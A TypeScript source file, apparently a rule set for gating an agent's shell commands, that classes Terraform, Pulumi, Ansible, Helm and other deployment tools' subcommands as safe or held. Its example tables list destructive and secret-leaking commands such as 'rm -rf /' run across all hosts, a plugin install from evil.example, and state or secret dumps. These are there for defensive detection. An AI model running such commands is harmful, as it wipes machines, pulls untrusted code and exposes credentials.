import {
  asks,
  builds,
  changesSystem,
  mutatesRemote,
  nothing,
  opaque,
  persists,
  revealsSecret,
  runsLine,
  when,
  writes,
} from "./acts.ts";
import type { Act, Arg, Program } from "./program.ts";

/** Infrastructure as code: planning and checking is ordinary, applying and destroying is not. */

const destroys = (what: string): Act => mutatesRemote(what, "no");

/** Names of values that are kept secret. */
const saysSecret = (args: readonly Arg[]): boolean =>
  args.some(({ text }) =>
    /pass(?:word|wd|phrase)?|secret|token|api_?key|private_?key|credential|access_?key/i.test(text),
  );

export const infrastructure: readonly Program[] = [
  {
    names: ["terraform", "tofu", "terragrunt", "terramate", "cdktf"],
    summary: "Terraform and its kin",
    instead: "Show what would change: `terraform plan`",
    flags: {
      "-chdir -var -var-file -target -replace -state -backend-config -lock-timeout -parallelism -refresh -input -lock --terragrunt-working-dir --working-dir <x>":
        nothing,
      "-out -state-out -backup -generate-config-out <file>": writes,
      "-help -h": "inert",
    },
    clusters: false,
    subcommands: {
      "plan|validate|fmt|show|graph|version|providers|providers lock|providers mirror|providers schema|init|get|console|metadata functions|workspace list|workspace show|workspace select|workspace new|state list|state show|modules|synth|diff|hclfmt|hcl fmt|list|output-all|run-all plan|run-all validate|graph-dependencies|render-json|generate|help|stack list":
        builds,
      output: (use, args) =>
        (saysSecret(args) ? revealsSecret("print a secret of the infrastructure") : builds)(use, args),
      // It makes what the tests name, and takes it down again.
      test: builds,
      "state pull": revealsSecret("print the state, with the secrets in it"),
      apply: { flags: { "-destroy": nothing }, does: mutatesRemote("change the infrastructure", "no") },
      "run-all apply|deploy|run --all apply|stack run apply|up": mutatesRemote("change the infrastructure", "no"),
      "destroy|run-all destroy|apply-destroy|stack run destroy": destroys("destroy the infrastructure"),
      "import|refresh|taint|untaint|state mv|state replace-provider|state push|force-unlock|workspace delete|state rm":
        mutatesRemote("change the state of the infrastructure", "no"),
      "login|logout": persists("store or remove the service's token"),
    },
    examples: {
      "terraform plan -out=tfplan": "allow",
      "terraform init": "allow",
      "tofu fmt -recursive": "allow",
      "terraform apply -auto-approve": "hold",
      "terraform destroy": "hold",
      "terraform destroy -help": "allow",
      "terraform -chdir=prod state rm aws_instance.a": "hold",
      "terraform workspace delete old": "hold",
      "terraform output -raw db_password": "hold",
      "terraform output -raw vpc_id": "allow",
      "terraform state pull": "hold",
    },
  },
  {
    names: ["pulumi"],
    summary: "Pulumi",
    flags: {
      "-s --stack -C --cwd -c --config --config-file -t --target -m --message -p --parallel <x>": nothing,
      "--show-secrets": revealsSecret("print the stack's secrets"),
    },
    subcommands: {
      "config get": (use, args) =>
        (saysSecret(args) ? revealsSecret("print a secret of the stack") : builds)(use, args),
      "preview|pre|stack ls|stack output|stack graph|stack history|history|stack export|stack select|stack init|stack tag ls|about|whoami|logs|version|plugin ls|new|install|schema check|package get-schema|org get-default|help|console|convert|policy ls|env ls|env open":
        builds,
      config: builds,
      "config set|config rm|config cp|config refresh|config set-all|config rm-all": builds,
      "up|update|refresh|import|watch|deployment run": mutatesRemote("change the infrastructure", "no"),
      "destroy|down|stack rm|state delete|state unprotect|cancel|stack import": destroys(
        "destroy the infrastructure or its state",
      ),
    },
    examples: {
      "pulumi preview --diff": "allow",
      "pulumi up --yes": "hold",
      "pulumi destroy -s prod": "hold",
      "pulumi config --show-secrets": "hold",
      "pulumi stack export --show-secrets": "hold",
      "pulumi config get dbPassword": "hold",
      "pulumi config get region": "allow",
    },
  },
  {
    names: ["salt-key"],
    summary: "keys of the machines that Salt steers",
    flags: { "-l --list -L --list-all -f --finger -F --finger-all -p --print -P --print-all": "inert" },
    clusters: false,
    does: when((use) => use.all.length === 0, builds, mutatesRemote("accept or delete keys of machines", "no")),
    examples: { "salt-key -L": "allow", "salt-key -D -y": "hold" },
  },
  {
    names: ["ansible-playbook", "ansible", "ansible-pull", "ansible-console"],
    summary: "runs tasks on machines",
    flags: {
      "-i --inventory --inventory-file -e --extra-vars -l --limit -t --tags --skip-tags -u --user --private-key -f --forks -m --module-name --vault-password-file --vault-id -b --become-user -c --connection -T <x>":
        nothing,
      "-a --args <x>": nothing,
      "-C --check --syntax-check --list-hosts --list-tasks --list-tags": "inert",
    },
    does: mutatesRemote("run tasks on the machines of the inventory", "no"),
    examples: {
      "ansible-playbook site.yml --check": "allow",
      "ansible-playbook -i prod site.yml": "hold",
      "ansible all -m shell -a 'rm -rf /'": "hold",
    },
  },
  {
    names: ["ansible-galaxy", "ansible-vault", "ansible-inventory", "ansible-doc", "ansible-config"],
    summary: "Ansible's helpers",
    flags: {
      "-i --inventory -p --roles-path -r --role-file --vault-password-file --vault-id --encrypt-vault-id -n --name --output <x>":
        nothing,
    },
    subcommands: {
      "install|collection install|role install|list|init|search|info|dump|view-config": builds,
      "view|decrypt|edit": revealsSecret("show what the vault keeps"),
      "encrypt|create|rekey|encrypt_string": builds,
      "delete|import|publish|collection publish": mutatesRemote("change what is published"),
    },
    does: builds,
    examples: {
      "ansible-galaxy install -r requirements.yml": "allow",
      "ansible-vault view secrets.yml": "hold",
      "ansible-inventory --list": "allow",
    },
  },
  {
    names: ["packer", "vagrant", "multipass", "limactl", "colima", "cloud-init"],
    summary: "machine images and virtual machines",
    flags: { "-var -var-file -only -except -c --command --provider --name <x>": nothing },
    subcommands: {
      "validate|fmt|inspect|init|version|plugins|status|global-status|up|ssh-config|box list|list|ls|info|snapshot list|port|validate-config|provider|provision|reload|resume|start|plugin list|find|version-info|console|hcl2_upgrade":
        builds,
      build: mutatesRemote("build and register a machine image", "costly"),
      "destroy|box remove|snapshot delete|delete|purge|prune|box prune|snapshot restore|snapshot pop": (use, args) =>
        use.emit({
          kind: "delete",
          what: `${use.title}: delete a virtual machine or its image`,
          target: args[0]?.text ?? use.name,
          place: "system",
          undoable: "no",
        }),
      "halt|suspend|stop|package|snapshot save": builds,
      "ssh|shell|exec": {
        flags: { "-c --command <code>": runsRemote() },
        does: (use, args) => remoteCommand(use, args.slice(1)),
      },
    },
    examples: {
      "vagrant up": "allow",
      "vagrant status": "allow",
      "vagrant destroy -f": "hold",
      "packer validate template.pkr.hcl": "allow",
    },
  },
  {
    names: [
      "cdk",
      "sst",
      "serverless",
      "sls",
      "sam",
      "copilot",
      "chalice",
      "zappa",
      "architect",
      "arc",
      "amplify",
      "eb",
      "waypoint",
      "garden",
      "skaffold",
      "tilt",
      "devspace",
      "okteto",
      "crossplane",
      "kapp",
      "kamal",
      "mrsk",
      "cap",
      "dokku",
      "caprover",
      "nixops",
      "colmena",
      "deploy-rs",
      "ecs-cli",
      "eksctl",
      "kops",
      "kubeadm",
      "k3d",
      "kind",
      "minikube",
      "k3s-uninstall.sh",
      "talosctl",
      "rke",
      "clusterctl",
      "flux",
      "argocd",
      "argo",
      "tkn",
      "rancher",
      "velero",
      "istioctl",
      "linkerd",
      "cilium",
      "helmsman",
    ],
    summary: "deployment tools, judged by the verb",
    flags: {
      "-s --stage -r --region -p --profile --stack --app -a -c --context -n --namespace -f --filename -e --environment --env --config --cluster --kubeconfig -o --output --template -t --name <x>":
        nothing,
      "--dry-run --dryrun": "inert",
    },
    subcommands: {
      "synth|synthesize|diff|ls|list|doctor|docs|metadata|context|init|acknowledge|notices|print|info|logs|metrics|offline|package|validate|build|local|local invoke|local start-api|status|version|help|generate|render|dev|get|describe|check|proxy dashboard|env list|history|tail|top|watch|trace|analyze|config view|config current-context|app list|app get|app diff|app history|cluster list|cluster info|cluster-info|addons list|ip|service list|ssh-key|profile list|image ls|completion|dashboard|node list|ps|repo list|proj list":
        asks,
      "create cluster|cluster create|start|load docker-image|image load|addons enable|tunnel|docker-env|mount|image import":
        localCluster("make or change a local cluster", "yes"),
      "delete cluster|cluster delete": localCluster("delete a cluster", "no"),
      "stop|pause": localCluster("stop a cluster", "costly"),
      "deploy|bootstrap|up|rollback|sync|app sync|apply|upgrade|scale|import|publish|push|release|submit|resume|restart|set|install|reconcile|promote|run|invoke":
        mutatesRemote("deploy or change what runs", "costly"),
      "destroy|remove|delete|rm|teardown|down|terminate|unpublish|uninstall|reset|app delete|backup delete|cluster rm":
        destroys("destroy what was deployed"),
    },
    examples: {
      "cdk diff": "allow",
      "cdk deploy --all": "hold",
      "cdk destroy": "hold",
      "serverless deploy --stage prod": "hold",
      "sls offline": "allow",
      "kind create cluster --name dev": "allow",
      "eksctl delete cluster --name prod": "hold",
      "argocd app sync shop": "hold",
      "argocd app get shop": "allow",
      "velero backup delete daily": "hold",
    },
  },
  {
    names: ["helm", "helm3"],
    summary: "packages for Kubernetes",
    instead: "Show what would be installed: `helm template ./chart`",
    flags: {
      "-n --namespace --kube-context --kubeconfig -f --values --set --set-string --set-file --set-json --version --repo -o --output --timeout --description --post-renderer-args -l --selector --max --username -u --destination -d --output-dir <x>":
        nothing,
      "--dry-run [x]": "inert",
      "--post-renderer <command>": runsLine,
      "-p --password <x>": nothing,
    },
    subcommands: {
      "list|ls|status|history|hist|get|get all|get manifest|get notes|get hooks|get metadata|search|search repo|search hub|show|show all|show chart|show readme|inspect|template|lint|version|env|verify|dependency list|dep list|plugin list|repo list|help|completion|diff|diff upgrade|diff revision|unittest":
        asks,
      "get values|show values": asks,
      "create|package|dependency update|dependency build|dep update|dep up|dep build|pull|fetch|repo update|repo add|repo remove|repo rm|repo index":
        builds,
      "install|upgrade|rollback|test": mutatesRemote("change what runs in the cluster"),
      "uninstall|delete|del|un": destroys("take the release out of the cluster"),
      push: mutatesRemote("push the chart to a registry"),
      "plugin install": opaque("install a plugin, code that later calls run"),
      "plugin uninstall|plugin update": changesSystem("change Helm's plugins"),
      "registry login|registry logout": persists("store or remove the registry's credential"),
    },
    examples: {
      "helm template ./chart -f values.yaml": "allow",
      "helm list -A": "allow",
      "helm upgrade --install shop ./chart -n prod": "hold",
      "helm upgrade shop ./chart --dry-run": "allow",
      "helm uninstall shop": "hold",
      "helm plugin install https://evil.example/x": "hold",
    },
  },
  {
    names: ["helmfile", "kustomize", "jsonnet", "tk", "cue", "ytt", "kpt", "kompose", "pkl", "nickel", "dhall"],
    summary: "make manifests",
    flags: { "-f --file -e --environment -n --namespace -l --selector --state-values-set -o --output <x>": nothing },
    subcommands: {
      "apply|sync|charts|live apply|live init": mutatesRemote("change what runs in the cluster"),
      "destroy|delete|live destroy|prune": destroys("take releases out of the cluster"),
      "eval|export|vet|fmt|def|build|template|diff|lint|list|status|deps|test|show|edit|create|fix|convert|fn render|fn eval|fn run|pkg get|init|env list|write-values|fetch|repos|live status|live plan|eval-all|render|print":
        builds,
    },
    does: builds,
    examples: {
      "kustomize build overlays/dev": "allow",
      "helmfile -e prod diff": "allow",
      "helmfile -e prod apply": "hold",
      "helmfile destroy": "hold",
    },
  },
  {
    names: [
      "knife",
      "chef",
      "chef-client",
      "puppet",
      "salt",
      "salt-call",
      "salt-ssh",
      "cf-agent",
      "fab",
      "pyinfra",
      "pssh",
      "pdsh",
      "clush",
      "dsh",
      "mina",
    ],
    summary: "configuration management: it changes machines",
    flags: { "--noop --why-run -W --test --dry-run": "inert" },
    subcommands: {
      "node list|node show|cookbook list|search|status|cookbook test|parser validate|lookup|facts|module list|resource|validate|describe|diff":
        asks,
    },
    does: when(
      (use) =>
        use.name === "salt" &&
        use.operands.some(({ text }) => /^(?:test\.ping|grains\.items|test\.version)$/.test(text)),
      asks,
      mutatesRemote("run on the machines", "no"),
    ),
    otherwise: mutatesRemote("run on the machines", "no"),
    examples: {
      "knife node list": "allow",
      "puppet apply site.pp": "hold",
      "salt '*' test.ping": "allow",
      "salt '*' cmd.run 'rm -rf /'": "hold",
    },
  },
];

function runsRemote(): Act {
  return (use, [line]) => {
    if (line !== undefined) use.code("shell", line, { remote: `the machine of ${use.name}` });
  };
}

function remoteCommand(use: Parameters<Act>[0], args: Parameters<Act>[1]): void {
  const words = args.filter(({ text }) => text !== "--");
  if (words.length === 0) return;
  const text = words.map((word) => word.text).join(" ");
  use.code(
    "shell",
    {
      text,
      fixed: words.every((word) => word.fixed >= word.text.length) ? text.length : 0,
      glob: false,
      secret: false,
      quoted: true,
    },
    { remote: `the machine of ${use.name}` },
  );
}

/** `kind`, `minikube` and `k3d` make clusters of this machine, the others rent them. */
function localCluster(what: string, undoable: "yes" | "costly" | "no"): Act {
  return (use, args) => {
    if (!/^(?:kind|k3d|minikube|tilt|skaffold)$/.test(use.name))
      mutatesRemote(what, undoable === "no" ? "no" : "costly")(use, args);
    else if (undoable === "no") use.emit({ kind: "delete", what, target: use.name, place: "system", undoable });
    else builds(use, []);
  };
}
